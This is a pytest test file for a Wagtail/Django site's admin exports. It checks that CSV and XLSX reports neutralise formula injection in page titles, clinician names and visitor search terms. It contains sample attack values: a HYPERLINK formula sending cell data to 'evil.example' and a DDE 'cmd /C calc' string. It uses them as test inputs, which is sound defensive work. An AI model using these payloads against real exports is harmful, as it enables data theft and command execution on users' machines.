"""Spreadsheet exports from the admin never carry a live formula.

A page title, a clinician's name or a visitor's search term beginning with `=`, `+`, `-`, `@`, a
tab or a carriage return would run as a formula when the CSV is opened in a spreadsheet; every
export prefixes such cells with a single quote. Tested through the real admin export URLs
(`?export=csv` / `?export=xlsx`): the "Clinical reviews due" report and Wagtail's own reports.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.log_actions import log

from practice.exports import FORMULA_TRIGGERS, neutralise_formula
from tests.factories import ClinicianPageFactory, ConditionPageFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def download(client, url_name, export_format):
    response = client.get(reverse(url_name) + f"?export={export_format}")
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def csv_rows(client, url_name):
    text = download(client, url_name, "csv").decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_no_live_formula(rows):
    live = [cell for cell in cells(rows) if cell.startswith(tuple(TRIGGERS))]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"


@pytest.fixture
def review_due(condition_index, team_index):
    """A condition page due for review today, reviewed by a clinician whose title is PAYLOAD."""
    clinician = ClinicianPageFactory(parent=team_index, title=PAYLOAD, slug="evil")
    today = timezone.localdate()
    ConditionPageFactory(
        parent=condition_index,
        title="Anxiety",
        reviewed_by=clinician,
        last_reviewed=today - datetime.timedelta(days=365),
        next_review_due=today,
    )
    return clinician


def test_the_one_rule_prefixes_each_trigger_and_leaves_everything_else():
    assert tuple(TRIGGERS) == FORMULA_TRIGGERS
    for trigger in TRIGGERS:
        assert neutralise_formula(f"{trigger}1+1") == f"'{trigger}1+1"
    for value in ("Dr. Ann Lee, Psy.D.", "", " =1", "'=1", "Due in 3 days", "2026-12-01"):
        assert neutralise_formula(value) == value
    for value in (None, 5, -5, 2.5, datetime.date(2026, 12, 1)):
        assert neutralise_formula(value) == value


def test_clinical_reviews_csv_keeps_a_clinician_named_as_a_formula_inert(admin_client, review_due):
    rows = csv_rows(admin_client, "clinical_reviews_due")
    assert rows[0] == ["Page", "Reviewed by", "Last reviewed", "Next review due", "Status"]
    assert rows[1][:2] == ["Anxiety", "'" + PAYLOAD]
    assert rows[1][4] == "Due today"
    assert_no_live_formula(rows)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_clinical_reviews_csv_neutralises_every_trigger_character(
    admin_client, condition_index, team_index, trigger
):
    clinician = ClinicianPageFactory(parent=team_index, title=f"{trigger}2+5+cmd|' /C calc'!A0")
    ConditionPageFactory(
        parent=condition_index,
        title=f"{trigger}SUM(1,2)",
        reviewed_by=clinician,
        next_review_due=timezone.localdate(),
    )
    rows = csv_rows(admin_client, "clinical_reviews_due")
    assert rows[1][:2] == [f"'{trigger}SUM(1,2)", f"'{trigger}2+5+cmd|' /C calc'!A0"]
    assert_no_live_formula(rows)


def test_clinical_reviews_xlsx_holds_the_formula_as_plain_text(admin_client, review_due):
    workbook = openpyxl.load_workbook(
        io.BytesIO(download(admin_client, "clinical_reviews_due", "xlsx"))
    )
    sheet = workbook.active
    rows = [list(row) for row in sheet.iter_rows()]
    reviewed_by = rows[1][1]
    # A typed text cell: shown exactly as the clinician's title, never evaluated.
    assert reviewed_by.value == PAYLOAD and reviewed_by.data_type == "s"
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]


def test_search_terms_export_keeps_what_a_visitor_typed_inert(client, admin_user, site):
    for trigger in TRIGGERS:
        # Whitespace at either end is trimmed from a search, so a leading tab or CR never stays.
        client.get("/search/", {"q": f"{trigger}cmd|' /C calc'!A0 therapy"})
    client.get("/search/", {"q": PAYLOAD})
    client.force_login(admin_user)
    rows = csv_rows(client, "wagtailsearchpromotions:search_terms")
    terms = [row[0] for row in rows[1:]]
    assert len(terms) >= 5
    for trigger in "=+-@":
        assert any(term.startswith(f"'{trigger}") for term in terms), (trigger, terms)
    assert_no_live_formula(rows)


@pytest.fixture
def formula_page(condition_index, admin_user):
    """A page titled PAYLOAD that was published, edited (site history) and is locked."""
    page = ConditionPageFactory(parent=condition_index, title=PAYLOAD, slug="formula")
    page.save_revision(user=admin_user).publish(user=admin_user)
    log(instance=page, action="wagtail.edit", user=admin_user)
    page.refresh_from_db()  # publish() worked on a copy
    page.locked, page.locked_by, page.locked_at = True, admin_user, timezone.now()
    page.save()
    return page


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:aging_pages",
    ],
)
def test_wagtail_reports_neutralise_a_page_titled_as_a_formula(
    admin_client, formula_page, url_name
):
    rows = csv_rows(admin_client, url_name)
    assert "'" + PAYLOAD in cells(rows), rows
    assert_no_live_formula(rows)
